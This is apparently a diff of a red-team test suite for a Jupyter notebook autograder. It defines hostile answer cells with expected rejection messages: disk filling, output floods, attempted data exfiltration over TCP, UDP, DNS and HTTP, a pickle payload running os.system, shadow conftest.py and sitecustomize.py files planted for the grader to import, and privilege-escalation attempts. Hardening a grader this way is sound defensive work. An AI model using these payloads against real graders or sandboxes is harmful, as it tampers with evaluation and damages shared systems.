 def flatten_view(t):
     while True:
         pass
-'''),)),
-    Attack("infinite_loop_while_loading", "a top-level cell that never ends", "Timed out",
-           (attack("while True:\n    pass\n"),), target=None),
-    Attack("disk_filling", "fill the scratch, /dev/shm and every writable place it can find",
-           "No space left", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "infinite_loop_while_loading",
+        "a top-level cell that never ends",
+        "Timed out",
+        (attack("while True:\n    pass\n"),),
+        target=None,
+    ),
+    Attack(
+        "disk_filling",
+        "fill the scratch, /dev/shm and every writable place it can find",
+        "No space left",
+        (
+            attack("""
 import os
 def flatten_view(t):
     for place in (".", "/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~")):
@@ -837,17 +1272,32 @@ def flatten_view(t):
                 last = error
                 break
     raise last
-'''),)),
-    Attack("output_flood", "flood stdout and stderr (print and raw writes), with a wrong answer",
-           "wrong values", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "output_flood",
+        "flood stdout and stderr (print and raw writes), with a wrong answer",
+        "wrong values",
+        (
+            attack(
+                """
 import os, sys
 for _ in range(200):
     print("spam " * 20_000)
     os.write(1, b"flood" * 100_000)
     os.write(2, b"flood" * 100_000)
-''' + WRONG),)),
-    Attack("network_exfiltration", "send the inputs out over TCP, UDP, DNS and HTTP, then answer wrongly",
-           ("Permission denied", "unreachable"), (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "network_exfiltration",
+        "send the inputs out over TCP, UDP, DNS and HTTP, then answer wrongly",
+        ("Permission denied", "unreachable"),
+        (
+            attack("""
 import socket, urllib.request
 def flatten_view(t):
     attempts = [lambda: socket.getaddrinfo("example.com", 80),
@@ -860,23 +1310,44 @@ def flatten_view(t):
         except OSError as error:
             last = error
     raise last
-'''),)),
-    Attack("ctypes_segfault", "dereference NULL with ctypes", ("crashed", "not allowed"), (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "ctypes_segfault",
+        "dereference NULL with ctypes",
+        ("crashed", "not allowed"),
+        (
+            attack("""
 import ctypes
 def flatten_view(t):
     return ctypes.string_at(0)
-'''),)),
-    Attack("pickle_payload", "return an object whose unpickling would run a command (the otter-grader pattern)",
-           "should be a Tensor", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "pickle_payload",
+        "return an object whose unpickling would run a command (the otter-grader pattern)",
+        "should be a Tensor",
+        (
+            attack("""
 import os
 class Payload:
     def __reduce__(self):
         return (os.system, ("touch /tmp/REDTEAM_WAS_HERE",))
 def flatten_view(t):
     return Payload()
-'''),)),
-    Attack("shadow_modules_and_conftest", "write conftest.py, pytest.ini, torch.py and sitecustomize.py where a "
-           "grader might import them", "wrong values", (attack(FIND_KIT + '''
+"""),
+        ),
+    ),
+    Attack(
+        "shadow_modules_and_conftest",
+        "write conftest.py, pytest.ini, torch.py and sitecustomize.py where a grader might import them",
+        "wrong values",
+        (
+            attack(
+                FIND_KIT
+                + """
 payload = "open('/tmp/REDTEAM_WAS_HERE', 'w').write('imported')\\n"
 for place in kit_places() + [os.path.expanduser("~"), "."]:
     for name in ("conftest.py", "pytest.ini", "torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py",
@@ -886,9 +1357,18 @@ for place in kit_places() + [os.path.expanduser("~"), "."]:
                 f.write(payload if name.endswith(".py") else "[pytest]\\naddopts = -p no:python\\n")
         except OSError:
             pass
-''' + WRONG),)),
-    Attack("privilege_escalation", "setuid(0), raise hard limits, new namespaces, mount, ptrace, write /usr",
-           ("wrong values", "not found"), (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "privilege_escalation",
+        "setuid(0), raise hard limits, new namespaces, mount, ptrace, write /usr",
+        ("wrong values", "not found"),
+        (
+            attack(
+                """
 import ctypes, os, resource
 libc = ctypes.CDLL(None, use_errno=True)
 for attempt in (lambda: os.setuid(0), lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
@@ -901,31 +1381,77 @@ for attempt in (lambda: os.setuid(0), lambda: resource.setrlimit(resource.RLIMIT
         print("ESCALATED", attempt)
     except (OSError, ValueError):
         pass
-''' + WRONG),)),
-    Attack("syntax_error", "the answer cell does not parse", "not found", (attack('''
+"""
+                + WRONG
+            ),
+        ),
+    ),
+    Attack(
+        "syntax_error",
+        "the answer cell does not parse",
+        "not found",
+        (
+            attack("""
 def flatten_view(t)
     return t.view(-1)
-'''),)),
-    Attack("renamed_function", "the answer renamed", "not found", (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "renamed_function",
+        "the answer renamed",
+        "not found",
+        (
+            attack("""
 def flatten_view_v2(t):
     return t.view(-1)
-'''),)),
+"""),
+        ),
+    ),
     Attack("deleted_cell", "the answer cell deleted", "not found", drop_target=True),
-    Attack("wrong_signature", "an extra required parameter", "TypeError", (attack('''
+    Attack(
+        "wrong_signature",
+        "an extra required parameter",
+        "TypeError",
+        (
+            attack("""
 def flatten_view(t, dim):
     return t.view(-1)
-'''),)),
-    Attack("hardcoded_example", "return the visible check cell's expected output",
-           ("but it should be", "wrong values"), (attack('''
+"""),
+        ),
+    ),
+    Attack(
+        "hardcoded_example",
+        "return the visible check cell's expected output",
+        ("but it should be", "wrong values"),
+        (
+            attack("""
 def flatten_view(t):
     return torch.tensor([0, 1, 2, 3, 4, 5])
-'''),)),
-    Attack("non_utf8_notebook", "a notebook file that is not UTF-8", "not UTF-8", target=None,
-           raw=b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe\xfa"}'),
-    Attack("truncated_json", "a notebook cut off mid-file", "not valid JSON", target=None,
-           raw=b'{"cells": [{"cell_type": "code", "source": ["def flatten_view(t):\\n", "    return t.vi'),
-    Attack("not_a_notebook", "valid JSON that is not a notebook", "not a Jupyter notebook", target=None,
-           raw=b'[{"flatten_view": "t.view(-1)"}]'),
+"""),
+        ),
+    ),
+    Attack(
+        "non_utf8_notebook",
+        "a notebook file that is not UTF-8",
+        "not UTF-8",
+        target=None,
+        raw=b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe\xfa"}',
+    ),
+    Attack(
+        "truncated_json",
+        "a notebook cut off mid-file",
+        "not valid JSON",
+        target=None,
+        raw=b'{"cells": [{"cell_type": "code", "source": ["def flatten_view(t):\\n", "    return t.vi',
+    ),
+    Attack(
+        "not_a_notebook",
+        "valid JSON that is not a notebook",
+        "not a Jupyter notebook",
+        target=None,
+        raw=b'[{"flatten_view": "t.view(-1)"}]',
+    ),
     *FORGERIES,
 ]
 
@@ -950,8 +1476,13 @@ def grade_id(cell: dict) -> str:
 
 
 def _cell(role: str, source: str) -> dict:
-    return {"cell_type": "code", "execution_count": None, "metadata": {"redteam": role}, "outputs": [],
-            "source": source.splitlines(keepends=True)}
+    return {
+        "cell_type": "code",
+        "execution_count": None,
+        "metadata": {"redteam": role},
+        "outputs": [],
+        "source": source.splitlines(keepends=True),
+    }
 
 
 def build(item: Attack, base: dict) -> bytes:
@@ -964,7 +1495,7 @@ def build(item: Attack, base: dict) -> bytes:
         notebook["cells"] += cells
     else:
         at = next(i for i, c in enumerate(notebook["cells"]) if grade_id(c) == f"{item.target}_answer")
-        notebook["cells"][at:at + 1] = [] if item.drop_target else cells
+        notebook["cells"][at : at + 1] = [] if item.drop_target else cells
     notebook["metadata"]["redteam"] = {"attack": item.name, "vector": item.vector}
     return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode()
 
